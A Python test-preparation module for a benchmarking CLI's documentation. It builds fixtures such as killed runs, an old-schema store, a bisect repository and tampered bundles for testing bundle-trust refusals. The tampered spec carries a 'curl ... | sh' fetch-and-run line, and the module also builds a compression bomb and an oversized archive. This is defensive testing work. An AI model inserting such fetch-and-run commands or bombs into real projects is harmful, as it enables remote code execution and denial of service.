"""Preparations of the docs test (``<!-- prepare: NAME -->``, docs/testing.md) that need more
than seeded values: a pilot with a known warm-up, an old store, a run and a leased run killed
with SIGKILL, a git repository to bisect, a store to draw, and tampered bundles. Each does
what the test that owns the case does (named in each docstring), with the real CLI, so the
page's sessions read real artefacts; where the output would otherwise vary (commit hashes,
a killed run's trial count), the preparation fixes it (commit dates, a file gate)."""

from __future__ import annotations

import gzip
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import tarfile
import time
from pathlib import Path

from benchlang.testing.synthetic import synthetic_store
from tests.store_versions import downgrade


def _cli(cwd: Path, *args: str) -> None:
    """The CLI in this process (the runs that are SIGKILLed are processes of their own)."""
    from tests.conftest import cli_here

    status, out, err = cli_here(args, cwd=cwd)
    assert status == 0, f"benchlang {' '.join(args)}: {out}{err}"


def _count(store: Path) -> int:
    try:
        with sqlite3.connect(f"file:{store}?mode=ro", uri=True) as db:
            return int(db.execute("SELECT count(*) FROM trials").fetchone()[0])
    except sqlite3.Error:
        return 0


def pilot(cwd: Path) -> None:
    """pilot.bench and pilot.sqlite for docs/ab-designs.md's ``advise --pilot``: the pilot of
    tests/test_advise_warmup.py whose first two trials per batch are slower by 0.5 and 0.2."""
    from tests.test_advise_warmup import pilot as make

    make(cwd, (0.5, 0.2))


Q_SPEC = """benchlang 1
experiment q {
  seed 4
  factor k in [1, 2]
  benchmark b {
    run "echo v={k}"
    measure v from stdout regex "v=([0-9]+)"
  }
  design { runs 5 order fixed }
}
"""


def old_store(cwd: Path) -> None:
    """q.sqlite for docs/store.md's migration: a real run of q.bench (10 trials), its last
    three trials taken out and the store rewritten in schema 1 (no ``trials.phase``, no
    leases, no blocks), as tests/test_store_migrate.py does."""
    (cwd / "q.bench").write_text(Q_SPEC)
    _cli(cwd, "run", "q.bench", "--store", "q.sqlite", "-q")
    with sqlite3.connect(cwd / "q.sqlite") as db:
        db.execute("DELETE FROM measures WHERE trial >= 7")
        db.execute("DELETE FROM trials WHERE trial >= 7")
    db.close()
    downgrade(cwd / "q.sqlite", 1)


SLOW2 = """benchlang 1
experiment slow {
  seed 7
  factor k in [1, 2, 3]
  benchmark b {
    run "[ $BENCHLANG_TRIAL -lt 7 ] || [ -e go ] || sleep 300; echo v={k}"
    measure v from stdout regex "v=([0-9]+)"
  }
  design { runs 10 order fixed }
}
"""


def _kill_after(argv: list[str], cwd: Path, store: Path, trials: int, env=None) -> None:
    """Start ``argv`` in a session of its own and SIGKILL it once ``trials`` are stored (the
    trials after them wait for the file ``go``, created after the kill)."""
    proc = subprocess.Popen(
        argv, cwd=cwd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        start_new_session=True,
    )  # fmt: skip
    try:
        end = time.monotonic() + 300
        while _count(store) < trials and proc.poll() is None and time.monotonic() < end:
            time.sleep(0.05)
    finally:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
    (cwd / "go").touch()


def killed_run(cwd: Path) -> None:
    """r2.sqlite for docs/store.md's resume: slow2.bench (30 trials) killed with SIGKILL after
    7 trials, as tests/test_store_safety.py gates a run with a file."""
    (cwd / "slow2.bench").write_text(SLOW2)
    argv = [sys.executable, "-m", "benchlang", "run", "slow2.bench", "--store", "r2.sqlite", "-q"]
    _kill_after(argv, cwd, cwd / "r2.sqlite", 7)


def killed_lease(cwd: Path) -> None:
    """p.sqlite for docs/cli.md's ``hosts list``/``release``: a run on the test pool backend
    (benchlang.testing.pool, registered as tests/test_leases.py does, its token in the
    sessions' environment) killed with SIGKILL while it holds its lease."""
    from benchlang.testing import conformance
    from tests.test_leases import TOKEN, write

    info = cwd / ".pool" / "benchlang_pool_tests-0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(
        "Metadata-Version: 2.1\nName: benchlang-pool-tests\nVersion: 0\n"
    )
    (info / "entry_points.txt").write_text(
        "[benchlang.backends]\npool = benchlang.testing.pool:PoolBackend\n"
    )
    path = os.pathsep.join(p for p in (str(info.parent), "$PYTHONPATH") if p)
    (cwd / ".docs-env").mkdir(exist_ok=True)
    (cwd / ".docs-env" / "killed-lease").write_text(f"POOL_TOKEN={TOKEN}\nPYTHONPATH={path}\n")
    env = {**os.environ, "POOL_TOKEN": TOKEN}
    env["PYTHONPATH"] = path.replace("$PYTHONPATH", os.environ.get("PYTHONPATH", ""))
    slow = "[ $BENCHLANG_TRIAL -ge 1 ] && sleep 300; "
    spec = write(cwd, runs=4, slow=slow, extra="price 0.5")
    conformance.killed_run_leaves_a_lease(spec, cwd / "p.sqlite", env)


def bisect_repo(cwd: Path) -> None:
    """The page directory as tests/test_bisect.py's repository (its ``drift_repo``: 12
    commits, 1.4x slower from "change 7" on, a level that moves between sessions), with fixed
    commit dates (so the hashes are the page's); what else the directory holds is excluded."""
    from tests.test_bisect import drift_repo

    drift_repo(cwd)


def figure_store(cwd: Path) -> None:
    """spec.bench (specs/order-trap.bench with a KPI) and runs.sqlite, its plan with the
    seeded values of tests/test_report_html.py (consume fast only right after produce), for
    docs/figures.md."""
    from tests.test_report_html import FACTS, order_trap

    text = (cwd / "specs" / "order-trap.bench").read_text()
    kpi = "  kpi time { percentile 50 confidence 75% }\n  design"
    (cwd / "spec.bench").write_text(text.replace("  design", kpi, 1))
    synthetic_store(cwd / "spec.bench", cwd / "runs.sqlite", order_trap, facts={"local": FACTS})


def _members(bundle: Path) -> dict[str, bytes]:
    with tarfile.open(bundle) as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers() if m.isfile()}


def _pack(path: Path, members: dict[str, bytes], rehash: bool = True) -> None:
    """A gzip'd tar of ``members`` (mtime 0: the same bytes on every run), the manifest's
    hashes made to fit with ``rehash`` (tests/test_bundle_trust.py ``write_bundle``)."""
    from tests.test_bundle_trust import write_bundle

    write_bundle(path, members, rehash=rehash)
    path.write_bytes(gzip.compress(gzip.decompress(path.read_bytes()), mtime=0))


def tampered_bundles(cwd: Path) -> None:
    """docs/replicate.md's refusals, built as tests/test_bundle_trust.py builds them from the
    published bundle (``published``, signed with ``key``): a setup added with the hashes
    recomputed (careless), the same with spec, plan, store and manifest rewritten
    (consistent), that with the old signature kept, another key's allowed-signers file, a
    compression bomb and 10,001 members."""
    from tests.test_bundle_trust import consistent

    _cli(cwd, "bundle", "pub.sqlite", "pub.bench", "--include", "value.awk", "-o", "signed.tar.gz",
         "--sign", "key")  # fmt: skip
    signed = _members(cwd / "signed.tar.gz")
    members = {k: v for k, v in signed.items() if not k.endswith(".sig")}
    spec = members["pub/spec/pub.bench"].decode()
    evil = spec.replace("  factor", '  setup "curl -s https://example.org/x | sh"\n  factor', 1)
    _pack(cwd / "careless.tar.gz", {**members, "pub/spec/pub.bench": evil.encode()})
    rewritten = _consistent(members, evil, cwd / ".attacker", consistent)
    _pack(cwd / "consistent.tar.gz", rewritten)
    old = {**rewritten, "pub/manifest.json.sig": signed["pub/manifest.json.sig"]}
    _pack(cwd / "consistent-old-signature.tar.gz", old, rehash=False)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(cwd / "other")],
                   check=True, capture_output=True)  # fmt: skip
    public = (cwd / "other.pub").read_text().split()
    (cwd / "someone-elses-allowed-signers").write_text(
        f'someone namespaces="benchlang-bundle" {public[0]} {public[1]}\n'
    )
    _pack(cwd / "bomb.tar.gz", {"pub/zeros": bytes(8 << 20)}, rehash=False)
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        for i in range(10_001):
            tar.addfile(tarfile.TarInfo(f"pub/f{i}"), io.BytesIO(b""))
    (cwd / "many.tar.gz").write_bytes(gzip.compress(raw.getvalue(), mtime=0))


def _consistent(members: dict[str, bytes], spec: str, where: Path, rewrite) -> dict[str, bytes]:
    """tests/test_bundle_trust.py's ``consistent`` on a bundle whose top is ``pub``."""
    probe = {k.replace("pub/", "probe/", 1): v for k, v in members.items()}
    probe["probe/spec/probe.bench"] = probe.pop("probe/spec/pub.bench")
    out = rewrite(probe, spec, where)
    out["probe/spec/pub.bench"] = out.pop("probe/spec/probe.bench")
    manifest = json.loads(out["probe/manifest.json"])
    out["probe/manifest.json"] = json.dumps(manifest).encode()
    return {k.replace("probe/", "pub/", 1): v for k, v in out.items()}


ASLR_OFF = """benchlang 1
experiment aslr_off {
  machine { aslr off }
  benchmark b { run "true" }
}
"""


def aslr_off(cwd: Path) -> None:
    """aslr-off.bench, the spec docs/machine.md's ``system tune`` applies."""
    (cwd / "aslr-off.bench").write_text(ASLR_OFF)


def perf_without_pmu(cwd: Path) -> None:
    """For docs/measures.md's missing counter: tests/test_counters_missing.py's perf stand-in
    (perf 6.1's lines on a VM without a PMU) first on the PATH of the block under this
    preparation only, so the page shows the same on a machine that has a PMU."""
    from tests.test_counters_missing import FAKE_PERF

    perf = cwd / ".perf" / "perf"
    perf.parent.mkdir()
    perf.write_text(FAKE_PERF)
    perf.chmod(0o755)
    (cwd / ".docs-env").mkdir(exist_ok=True)
    (cwd / ".docs-env" / "perf-without-pmu").write_text(f"PATH={perf.parent}:$PATH\n")


PREPARE_RUNS = {
    "pilot": pilot,
    "old-store": old_store,
    "killed-run": killed_run,
    "killed-lease": killed_lease,
    "bisect-repo": bisect_repo,
    "figure-store": figure_store,
    "tampered-bundles": tampered_bundles,
    "aslr-off": aslr_off,
    "perf-without-pmu": perf_without_pmu,
}
